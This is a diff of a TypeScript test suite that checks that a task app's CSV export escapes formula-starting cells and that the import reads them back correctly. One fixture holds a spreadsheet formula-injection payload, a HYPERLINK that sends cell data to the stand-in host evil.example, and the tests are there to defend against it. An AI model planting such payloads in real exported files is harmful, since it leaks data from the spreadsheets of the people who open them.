@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { csvRow } from '../../../src/domain/transfers/csv.ts';
+import { csvList } from '../../../src/domain/transfers/csv.ts';
 import type { Priority } from '../../../src/generated/prisma/enums.ts';
 import { insertProject } from '../../support/insert-project.ts';
 import {
@@ -37,7 +37,7 @@ const faults = (state: Awaited<ReturnType<typeof csv>>) =>
   state.rowErrors.nodes.map(({ line, faults }) => [line, ...faults.map(({ column }) => column)]);
 
 /** What begins a formula, ends a cell or a row, or is not ASCII. */
-const character = fc.constantFrom(...'=+-@\t\r\n",;\' ab%&<ßé語👩‍💻', '\r\n', '\u00a0', '\u200b', "''=");
+const character = fc.constantFrom(...'=＝-＠@\t\r\n",;|\' ab&ß語👩‍💻', '\r\n', '\u00a0', '\ufeff', "''=", ';"=');
 const text = (maxLength: number) => fc.string({ unit: character, maxLength });
 const title = text(60).filter((value) => value.trim().length > 0);
 const zone = fc.constantFrom('UTC', 'Europe/Berlin', 'America/New_York', 'Asia/Kathmandu', 'Australia/Lord_Howe');
@@ -150,19 +150,32 @@ describe('a CSV', () => {
   test('has no cell that a spreadsheet would run, and a header', async () => {
     const { alice } = await test_.tenant();
     const notes = '=HYPERLINK("http://evil.example/?x="&A1)';
-    for (const title of ['+1', '-1', '@SUM(1)', "'=quoted", 'plain']) {
+    for (const title of ['+1', '-1', '@SUM(1)', "'=quoted", '＝1', 'a;=1+1', 'plain']) {
       await alice.run(CreateTaskDocument, { input: { title, notes, tags: ['=tag'] } });
     }
     const lines = (await exportNow(test_, alice, { format: 'CSV' })).split('\r\n');
     const header =
       'id,parent,title,notes,status,priority,tags,due,dueTimeZone,assignee,project,completedAt,recurrence,createdAt,updatedAt';
-    expect(lines[0]).toBe(header);
-    const titles = lines.slice(1, -1).map((line) => line.split(',')[2]);
-    expect(titles).toEqual(["'+1", "'-1", "'@SUM(1)", "''=quoted", 'plain']);
+    expect(lines[0]).toBe(`"${header.replaceAll(',', '","')}"`);
+    const titles = lines.slice(1, -1).map((line) => line.split('","')[2]);
+    expect(titles).toEqual(["'+1", "'-1", "'@SUM(1)", "''=quoted", "'＝1", "a;'=1+1", 'plain']);
     for (const line of lines.slice(1, -1)) {
       expect(line).toContain(`"'=HYPERLINK(""http`);
-      expect(line).toContain(",'=tag,");
+      expect(line).toContain(`,"'=tag",`);
     }
+  });
+
+  test('of an earlier version is read as it was written, and a later one is exact', async () => {
+    const names =
+      'id,parent,title,notes,status,priority,tags,due,dueTimeZone,assignee,project,completedAt,recurrence,createdAt,updatedAt';
+    const earlier = `${names}\r\n1,,earlier 1,'=1+1,,,,,,,,,,,\r\n2,,earlier 2,a;'=1+1,,,,,,,,,,,\r\n`;
+    await csv(earlier);
+    const notes = async (text: string) => (await tasksOf(anna, { text })).map(({ notes }) => notes);
+    expect(await notes('earlier')).toEqual(['=1+1', "a;'=1+1"]);
+    const file = await exportNow(test_, anna, { format: 'CSV', filter: { text: 'earlier' } });
+    const { alice } = await test_.tenant();
+    await importNow(test_, alice, { format: 'CSV', content: file });
+    expect((await tasksOf(alice)).map(({ notes }) => notes)).toEqual(['=1+1', "a;'=1+1"]);
   });
 });
 
@@ -262,7 +275,7 @@ test('a series is told by its rule', async () => {
 
 describe('a bad row', () => {
   test('is told by line, column and reason, and skipped; the others become tasks', async () => {
-    const tags = csvRow(Array.from({ length: 21 }, (_, n) => `t${n}`));
+    const tags = csvList(Array.from({ length: 21 }, (_, n) => `t${n}`));
     const rows = [
       'title,notes,status,priority,tags,due,dueTimeZone,assignee,completedAt',
       'row good 1,"two\r\nlines",,,,,,,',
